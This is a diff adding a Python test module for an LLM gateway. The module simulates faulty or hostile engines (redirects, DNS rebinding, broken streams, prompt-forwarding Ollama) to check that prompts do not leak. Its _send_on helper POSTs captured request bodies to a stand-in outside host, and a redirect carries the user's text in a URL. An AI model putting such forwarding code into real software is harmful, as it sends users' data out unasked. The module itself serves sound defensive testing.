@@ -1,0 +1,114 @@
+"""What an engine can do so that a text goes further than its caller's profile lets it. These leave engines broken."""
+
+from __future__ import annotations
+
+import asyncio
+from time import monotonic
+from typing import Any
+
+from ringfence.prove.house import House
+from ringfence.prove.temptations import (
+    BROKEN_MODEL,
+    ELSEWHERE,
+    EMBEDDING_MODEL,
+    ENGINE_HOST,
+    NAMED_MODEL,
+    REDIRECTING_MODEL,
+    ROVING_MODEL,
+)  # fmt: skip
+from ringfence.prove.way import Tried, Way
+from ringfence.testing.fake_engine import Behaviour, FakeEngine, Fault
+
+ORDER = 3
+AWAY = f"http://{ELSEWHERE}/v1/chat/completions"
+LOOK_S = 8.0
+"""Longer than the time between two looks at an engine."""
+
+
+async def _roving(house: House, text: str) -> Tried:
+    """An Ollama that would send on what it is asked: the stand-in does so."""
+    asked = len(house.ollama.calls)
+    by_names = [await house.chat(text, name) for name in (ROVING_MODEL, "decoy", "decoy:cloud")]
+    for call in house.ollama.calls[asked:]:
+        await _send_on(str(call.body))
+    return Tried(", ".join(said.in_words for said in by_names), all(said.status for said in by_names))
+
+
+async def _send_on(text: str) -> None:
+    _, writer = await asyncio.open_connection(ELSEWHERE, 80)
+    data = text.encode()
+    writer.write(b"POST /api/chat HTTP/1.1\r\ncontent-length: %d\r\n\r\n%b" % (len(data), data))
+    await writer.drain()
+    writer.close()
+
+
+async def _renamed(house: House, text: str) -> Tried:
+    """The name of an engine leads elsewhere once the gateway has started."""
+    await house.sink.seen(names={ENGINE_HOST: ELSEWHERE})
+    house.engine.drop_connections()
+    asked = len(house.engine.calls)
+    said = await house.chat(text, NAMED_MODEL)
+    return Tried.by(said, is_tried=said.status >= 400 or len(house.engine.calls) > asked)
+
+
+async def _embedded(house: House, text: str) -> Tried:
+    """An engine for embeddings fails."""
+    house.embedder.once(*[Behaviour(Fault.STATUS, status=503)] * 5)
+    return Tried.by(await house.ask("/v1/embeddings", {"model": EMBEDDING_MODEL, "input": text}))
+
+
+async def _redirected(house: House, text: str) -> Tried:
+    return await _failing(house, text, house.redirecting, REDIRECTING_MODEL, Behaviour(Fault.REDIRECT, location=AWAY))
+
+
+async def _probe_redirected(house: House, text: str) -> Tried:
+    """An engine answers the questions that look at it with an address elsewhere."""
+    house.redirecting.always = Behaviour(Fault.REDIRECT, location=f"{AWAY}?{text}")
+    looked = len(house.redirecting.requests)
+    house.redirecting.drop_connections()
+    until = monotonic() + LOOK_S
+    while len(house.redirecting.requests) == looked and monotonic() < until:  # noqa: ASYNC110 of an engine, no event
+        await asyncio.sleep(0.05)
+    return Tried("looked at it", len(house.redirecting.requests) > looked)
+
+
+async def _broken_off(house: House, text: str) -> Tried:
+    cut = Behaviour(Fault.CUT, after_events=2)
+    return await _failing(house, text, house.broken, BROKEN_MODEL, cut, stream=True)
+
+
+async def _retried(house: House, text: str) -> Tried:
+    """Every engine of the profile's chain fails, on each try."""
+    house.own_engine.once(*[Behaviour(Fault.STATUS, status=500)] * 12)
+    return Tried.by(await house.chat(text, "auto"))
+
+
+async def _gone(house: House, text: str) -> Tried:
+    """No engine of this machine is there any more."""
+    for engine in (house.own_engine, house.engine):
+        await engine.stop()
+    answers = [await house.chat(text, name) for name in ("auto", NAMED_MODEL)]
+    return Tried(", ".join(said.in_words for said in answers), all(said.status for said in answers))
+
+
+async def _failing(house: House, text: str, engine: FakeEngine, model: str, behaviour: Behaviour, **more: Any) -> Tried:
+    """Tried when the engine was asked, or when the gateway refuses before that."""
+    engine.once(*[behaviour] * 5)
+    asked = len(engine.calls)
+    said = await house.chat(text, model, None, **more)
+    return Tried.by(said, is_tried=said.status >= 400 or len(engine.calls) > asked)
+
+
+WAYS = (
+    Way("roving-engine", "a model that an Ollama on this machine would send to its own cloud", _roving, stays=True),
+    Way("renamed-engine", "an engine's name leads elsewhere after the start (DNS rebinding)", _renamed, stays=True),
+    Way("failing-embeddings", "the engine for embeddings fails", _embedded, stays=True),
+    Way("redirect", "an engine answers with a redirect to elsewhere", _redirected, stays=True),
+    Way(
+        "probe-redirect", "an engine redirects what looks at it", _probe_redirected,
+        ("permit egress/pool.py:Pool.fetch",), stays=True,
+    ),
+    Way("broken-stream", "an engine breaks off after the first byte", _broken_off, stays=True),
+    Way("retry", "every engine of the chain fails, on each try", _retried),
+    Way("fallback", "no engine of this machine is there any more", _gone),
+)  # fmt: skip
